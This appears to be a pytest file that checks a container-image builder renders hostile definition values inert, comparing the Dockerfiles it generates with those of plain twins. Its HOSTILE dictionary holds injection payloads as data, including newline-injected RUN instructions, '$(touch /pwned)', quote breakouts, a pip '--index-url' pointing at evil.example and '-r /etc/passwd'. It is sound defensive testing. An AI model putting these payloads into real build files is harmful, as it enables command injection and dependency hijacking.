"""Every value a definition may hold is inert at build time: a newline, a
``$(...)``, a backquote, a quote, a backslash or a NUL in any field either
is refused when the definition is read, or reaches the build exactly as it
was written, never as a Dockerfile instruction, a shell word or an
installer option of its own.

How: each hostile value is put into each field of a small definition; for
every definition that is accepted, the Dockerfile the build would run is
rendered (one-step, layered and conda renderers) and parsed with
``dockerfile-parse`` (Docker's own reading of instructions and line
continuations), and compared with the same definition holding a plain word
instead: the same instructions in the same order, each with the same number
of shell words; and the installer's requirements file has the same option
lines. Docker steps and a base Dockerfile are instructions by design (the
definition's author writes them as code, reviewed as code): not data, not
here. (The heredoc bodies of RUN steps are read by dockerfile-parse as
lines of their own, alike for both: a hostile value that ended a heredoc
early would still show as a difference.)

Then the same proof over every definition the hostile corpus
(``tests/support/hostile.py``, a seeded sample of every format) gets
accepted: its Dockerfiles against those of its *twin*, the same definition
with every character of every data field that a shell or Docker could read
(anything but letters, digits and ``._=:/@+-``) replaced by ``_``: the same
instructions with the same shell words (``shlex``), and the shell of every
RUN step and heredoc script parsed by ``bashlex`` to the same commands,
words, substitutions and redirections; the installer's requirements file
holds exactly its option lines and requirements, one a line, and no
requirement reads as an option; the conda command has one word per channel
and per dependency, each the value as written."""

from __future__ import annotations

import dataclasses
import io
import re
import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import bashlex
import pytest
from dockerfile_parse import DockerfileParser

from pulumi_mlenv.definition import EnvironmentSpec, parse_definition
from pulumi_mlenv.errors import MlenvError
from pulumi_mlenv.imaging.builder import index_text, requirements_text
from pulumi_mlenv.imaging.conda import (
    DEFAULT_CHANNEL,
    _dependencies,
    conda_create_command,
    render_conda,
)
from pulumi_mlenv.imaging.dockerfile import LABEL_PREFIX, RenderOptions, render
from pulumi_mlenv.imaging.layers import LayerGroup
from support.hostile import sample
from support.hostile_run import run_case

PLAIN = "plainword"
#: A plain value where a word would not be valid.
PLAINS = {"a pip requirement's version": "7", "the python version": "3.11"}
HOSTILE = {
    "newline + instruction": "x\nRUN touch /pwned",
    "CR LF + instruction": "x\r\nRUN touch /pwned",
    "line continuation": "x \\\nRUN touch /pwned",
    "heredoc end": "x\nMLENV\nRUN touch /pwned",
    "command substitution": "$(touch /pwned)",
    "backquotes": "`touch /pwned`",
    "single quote": "x' ; touch /pwned ; '",
    "double quote": 'x" ; touch /pwned ; "',
    "shell operators": "x && touch /pwned; y | z",
    "variable": "${PATH}",
    "NUL": "x\x00y",
    "an installer option": "--index-url http://evil.example/simple",
    "newline + installer option": "x\n--index-url http://evil.example/simple",
    "a requirements include": "-r /etc/passwd",
}


def _system(**over: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "name": "inert",
        "python": {
            "conda": {"dependencies": ["python=3.11", {"pip": ["six==1.16.0", "idna==3.7"]}]}
        },
        "docker": {"steps": ["RUN echo one > /one"]},
    }
    doc.update(over)
    return doc


def _pip(value: str) -> dict[str, Any]:
    return {"conda": {"dependencies": ["python=3.11", {"pip": ["six==1.16.0", value]}]}}


#: field -> the definition holding ``value`` in it.
FIELDS: dict[str, Callable[[str], dict[str, Any]]] = {
    "name": lambda v: _system(name=v),
    "version": lambda v: _system(version=v),
    "description": lambda v: _system(description=v),
    "a pip requirement": lambda v: _system(python=_pip(v)),
    "a pip requirement's version": lambda v: _system(python=_pip(f"idna==3.{v}")),
    "a pip requirement's marker": lambda v: _system(
        python=_pip(f"idna==3.7; python_version == '{v}'")
    ),
    "a pip requirement's extra": lambda v: _system(python=_pip(f"idna[{v}]==3.7")),
    "a conda dependency": lambda v: _system(python={"conda": {"dependencies": ["python=3.11", v]}}),
    "a conda channel": lambda v: _system(
        python={"conda": {"channels": [v], "dependencies": ["python=3.11", "numpy=2.1"]}}
    ),
    "the python version": lambda v: _system(python={"conda": {"dependencies": [f"python={v}"]}}),
    "interpreter_path": lambda v: _system(
        python={"user_managed": True, "interpreter_path": f"/usr/bin/{v}"}
    ),
    "a variable's value": lambda v: _system(environment_variables={"A": v}),
    "a variable's name": lambda v: _system(environment_variables={v: "1"}),
    "the base image": lambda v: _system(docker={"base_image": f"127.0.0.1:5000/{v}:1"}),
}

OPTIONS = RenderOptions(
    base_ref="127.0.0.1:5000/mlenv/python@sha256:" + "a" * 64,
    env_hash="f" * 64,
    labels=((f"{LABEL_PREFIX}.hash", "f" * 64),),
)


def _spec(doc: dict[str, Any]) -> EnvironmentSpec | None:
    try:
        return parse_definition(doc)
    except MlenvError:
        return None


def _pins(spec: EnvironmentSpec) -> tuple[str, ...]:
    conda = spec.python.conda
    return tuple(p for p in (conda.pip if conda else ()) if "==" in p)


def _dockerfiles(spec: EnvironmentSpec) -> list[str]:
    layered = RenderOptions(
        base_ref=OPTIONS.base_ref,
        env_hash=OPTIONS.env_hash,
        labels=(*OPTIONS.labels, (f"{LABEL_PREFIX}.name", spec.name)),
        layers=(LayerGroup("pins", _pins(spec)),) if _pins(spec) else (),
    )
    out = [render(spec, OPTIONS), render(spec, layered)]
    if spec.python.conda is not None and not spec.python.user_managed:
        out.append(render_conda(spec, OPTIONS))
    return out


def _words(value: str) -> int | str:
    try:
        return len(shlex.split(value))
    except ValueError as exc:  # an unbalanced quote: a difference in itself
        return f"unparsable: {exc}"


def _shape(dockerfile: str) -> list[tuple[str, int | str]]:
    parser = DockerfileParser(fileobj=io.StringIO(dockerfile))
    return [(i["instruction"], _words(i["value"])) for i in parser.structure]


def _options(text: str) -> list[str]:
    lines = text.splitlines()
    return [f"{len(lines)} lines", *(line.split()[0] for line in lines if line.startswith("-"))]


CASES = [(field, kind) for field in FIELDS for kind in HOSTILE]


@pytest.mark.parametrize(("field", "kind"), CASES, ids=[f"{f}-{k}" for f, k in CASES])
def test_a_hostile_value_is_refused_or_inert(field: str, kind: str) -> None:
    make = FIELDS[field]
    plain = _spec(make(PLAINS.get(field, PLAIN)))
    assert plain is not None, f"the plain definition of {field} is refused"
    hostile = _spec(make(HOSTILE[kind]))
    if hostile is None:
        return  # refused when read: nothing is built
    for ours, theirs in zip(_dockerfiles(hostile), _dockerfiles(plain), strict=True):
        assert "\x00" not in ours
        assert _shape(ours) == _shape(theirs), f"{field} = {HOSTILE[kind]!r}:\n{ours}"
    value = HOSTILE[kind]
    if field == "a pip requirement" and value.startswith("-") and "\n" not in value:
        # A pip list may hold option lines: written as one, it is one, whole.
        assert value in requirements_text(hostile).splitlines()
        return
    assert _options(requirements_text(hostile)) == _options(requirements_text(plain))
    assert _options(index_text(hostile)) == _options(index_text(plain))


def test_the_proof_covers_accepted_values_of_every_kind() -> None:
    """Not vacuous: many hostile values are accepted (metadata, variables,
    markers, quoted words) and so go through the comparison above."""
    accepted = [(f, k) for f, k in CASES if _spec(FIELDS[f](HOSTILE[k])) is not None]
    assert len(accepted) >= 60
    kinds = {k for _, k in accepted}
    assert {"newline + instruction", "NUL", "command substitution", "single quote"} <= kinds


# -- the hostile corpus: every accepted definition, against its twin --------

#: Corpus cases loaded for this proof (about one in four is accepted).
CORPUS_SAMPLE = 600
#: Definitions with more packages are left out here: they are the corpus's
#: size attacks (``pkgN==1.N`` ten thousand times), with nothing to quote,
#: and bashlex takes seconds over their scripts.
MAX_PACKAGES = 200
_UNSAFE = re.compile(r"[^A-Za-z0-9._=:/@+-]")
#: Instructions by design (written and reviewed as code), or paths and
#: digests the product computed: kept as they are in the twin.
_CODE_FIELDS = {"steps", "base_dockerfile", "build_context", "context_files"}


def _neutral(value: Any, name: str = "") -> Any:
    """``value`` with every shell- or Docker-significant character of its
    data fields replaced by ``_`` (the twin of a definition)."""
    if name in _CODE_FIELDS:
        return value
    if isinstance(value, str):
        return _UNSAFE.sub("_", value)
    if isinstance(value, tuple):
        return tuple(_neutral(v) for v in value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {
            f.name: _neutral(getattr(value, f.name), f.name) for f in dataclasses.fields(value)
        }
        return dataclasses.replace(value, **changes)
    return value


def _options_for(spec: EnvironmentSpec) -> RenderOptions:
    """As the product renders it: the base by digest, the name and base labelled."""
    base = spec.docker.base_image
    ref = f"{base.split('@', 1)[0]}@sha256:{'a' * 64}" if base else ""
    labels = [(f"{LABEL_PREFIX}.name", spec.name)]
    if base:
        labels.append(("org.opencontainers.image.base.name", base.split("@", 1)[0]))
    pins = _pins(spec)
    layers = (LayerGroup("pins", pins),) if pins else ()
    return RenderOptions(base_ref=ref, env_hash="f" * 64, labels=tuple(labels), layers=layers)


def _all_dockerfiles(spec: EnvironmentSpec) -> list[str]:
    options = _options_for(spec)
    one_step = dataclasses.replace(options, layers=())
    out = [render(spec, one_step), render(spec, options)]
    if spec.python.conda is not None and not spec.python.user_managed:
        out.append(render_conda(spec, one_step))
    return out


def _bash_shape(script: str) -> list[str] | str:
    """The node kinds bashlex reads ``script`` as, in order (words included)."""
    shape: list[str] = []

    class Visitor(bashlex.ast.nodevisitor):  # type: ignore[misc]
        def visitnode(self, node: Any) -> None:
            shape.append(node.kind)

    try:
        for tree in bashlex.parse(script):
            Visitor().visit(tree)
    except (bashlex.errors.ParsingError, NotImplementedError) as exc:
        return f"unparsable: {type(exc).__name__}"
    return shape


_HEREDOC = re.compile(r"<<'MLENV'\n(.*?)\nMLENV$", re.DOTALL | re.MULTILINE)


def _shell_shape(dockerfile: str) -> list[Any]:
    """Every RUN's shell (its heredoc script, or its command line) as bashlex reads it."""
    shapes: list[Any] = [_bash_shape(body) for body in _HEREDOC.findall(dockerfile)]
    parser = DockerfileParser(fileobj=io.StringIO(dockerfile))
    for item in parser.structure:
        if item["instruction"] == "RUN" and "<<" not in item["value"]:
            command = re.sub(r"^(--mount=\S+\s+)*", "", item["value"])
            shapes.append(_bash_shape(command))
    return shapes


def _accepted_corpus(tmp_path: Path) -> list[tuple[str, EnvironmentSpec]]:
    found = []
    for i, case in enumerate(sample(CORPUS_SAMPLE, seed=7)):
        out = run_case(tmp_path / str(i), case)
        conda = out.spec.python.conda if out.spec else None
        size = len(conda.pip) + len(conda.dependencies) if conda else 0
        if out.spec is not None and size <= MAX_PACKAGES:
            found.append((case.ident, out.spec))
    return found


def test_every_accepted_corpus_definition_is_inert_at_build_time(tmp_path: Path) -> None:
    accepted = _accepted_corpus(tmp_path)
    assert len({ident.split("-")[0] for ident, _ in accepted}) >= 5  # not vacuous
    assert len(accepted) >= 60
    for ident, spec in accepted:
        twin = _neutral(spec)
        for ours, theirs in zip(_all_dockerfiles(spec), _all_dockerfiles(twin), strict=True):
            assert "\x00" not in ours, ident
            assert _shape(ours) == _shape(theirs), f"{ident}:\n{ours}"
            assert _shell_shape(ours) == _shell_shape(theirs), f"{ident}:\n{ours}"
        conda = spec.python.conda
        if conda is None:
            continue
        options = [o.strip() for o in conda.pip_options if o.strip() != "--pre"]
        # Split as pip splits it (every Unicode line break; uv: only LF).
        lines = requirements_text(spec).splitlines()
        assert lines == ([*options, *conda.pip] or [""]), ident
        assert not any(p.lstrip().startswith("-") for p in conda.pip), ident
        words = shlex.split(conda_create_command(spec))
        at = words.index("--strict-channel-priority")
        assert words[at + 1 :] == _dependencies(spec), ident
        assert words[7:at:2] == ["-c"] * len(words[7:at:2]), ident
        assert words[8:at:2] == list(conda.channels or (DEFAULT_CHANNEL,)), ident
